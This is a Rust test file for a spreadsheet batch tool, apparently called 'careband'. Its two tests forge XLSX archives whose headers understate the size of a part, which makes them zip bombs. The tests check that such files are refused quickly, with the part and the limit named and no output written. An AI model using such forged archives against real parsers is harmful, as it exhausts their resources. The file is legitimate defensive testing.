fn declared_size(bytes: &[u8]) -> u64 {
    let mut z = zip::ZipArchive::new(Cursor::new(bytes)).unwrap();
    (0..z.len())
        .map(|i| z.by_index_raw(i).unwrap().size())
        .sum()
}

// A zip bomb that lies: the central directory and the local header say the shared strings
// are 100 bytes, the deflated stream expands to 3.4 MB (200,000 strings of 17 bytes, by
// construction), past a 1,000,000-byte limit. The declared sizes pass the limit, so only
// expanding the part can catch it, and the refusal must name the part and the limit.
#[test]
fn a_workbook_part_that_declares_a_small_size_and_expands_past_the_limit_is_refused() {
    const LIMIT: u64 = 1_000_000;
    let honest = workbook_with_strings(200_000, 2);
    let forged = forge_size(&honest, "xl/sharedStrings.xml", 100);
    assert!(declared_size(&honest) > LIMIT);
    assert!(declared_size(&forged) < LIMIT, "{}", declared_size(&forged));
    let limits = XlsxLimits {
        max_uncompressed_bytes: LIMIT,
        ..XlsxLimits::default()
    };
    // The honest one is refused from its directory alone.
    let err = run_book(&honest, limits).unwrap_err();
    assert!(matches!(err, BatchError::WorkbookTooLarge { .. }), "{err}");
    // The forged one, by the library and by the command line.
    let err = run_book(&forged, limits).unwrap_err();
    assert!(matches!(err, BatchError::WorkbookTooLarge { .. }), "{err}");
    let message = err.to_string();
    assert!(message.contains("xl/sharedStrings.xml"), "{message}");
    assert!(message.contains("1,000,000"), "{message}");
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    std::fs::write(d.join("forged.xlsx"), &forged).unwrap();
    let started = Instant::now();
    let o = careband_in(
        d,
        &[
            "batch",
            "forged.xlsx",
            "-o",
            "out.csv",
            "--xlsx-max-bytes",
            "1000000",
            "--date",
            ON,
        ],
    );
    let took = started.elapsed();
    assert_eq!(o.code, 2, "{}", o.stderr);
    assert!(o.stderr.contains("too large to read"), "{}", o.stderr);
    assert!(o.stderr.contains("xl/sharedStrings.xml"), "{}", o.stderr);
    assert!(o.stderr.contains("1,000,000"), "{}", o.stderr);
    assert!(!d.join("out.csv").exists());
    // Loading the embedded data is most of it; the workbook is refused without being read.
    assert!(took < Duration::from_secs(10), "{took:?}");
    // With a limit it fits, the same forged file is still refused: the part is not what its
    // archive says.
    let o = careband_in(d, &["batch", "forged.xlsx", "-o", "out.csv", "--date", ON]);
    assert_eq!(o.code, 2, "{}", o.stderr);
    assert!(o.stderr.contains("xl/sharedStrings.xml"), "{}", o.stderr);
    assert!(!d.join("out.csv").exists());
}

// The same lie told by a worksheet, which is streamed rather than expanded first: the zip
// reader stops it at the size it declares, and the run is refused as too large to read,
// naming the sheet, without output and without reading past the lie.
#[test]
fn a_worksheet_that_declares_a_small_size_is_refused_as_it_is_read() {
    let mut book = rust_xlsxwriter::Workbook::new();
    let sheet = book.add_worksheet();
    sheet.write_string(0, 0, "postcode").unwrap();
    for row in 1..=20_000 {
        sheet.write_string(row, 0, "NR1 1AA").unwrap();
    }
    let honest = book.save_to_buffer().unwrap();
    let forged = forge_size(&honest, "xl/worksheets/sheet1.xml", 2_000);
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    std::fs::write(d.join("forged.xlsx"), &forged).unwrap();
    let started = Instant::now();
    let o = careband_in(d, &["batch", "forged.xlsx", "-o", "out.csv", "--date", ON]);
    assert_eq!(o.code, 2, "{}", o.stderr);
    assert!(o.stderr.contains("too large to read"), "{}", o.stderr);
    assert!(o.stderr.contains("Sheet1"), "{}", o.stderr);
    assert!(!d.join("out.csv").exists());
    assert!(started.elapsed() < Duration::from_secs(10));
}
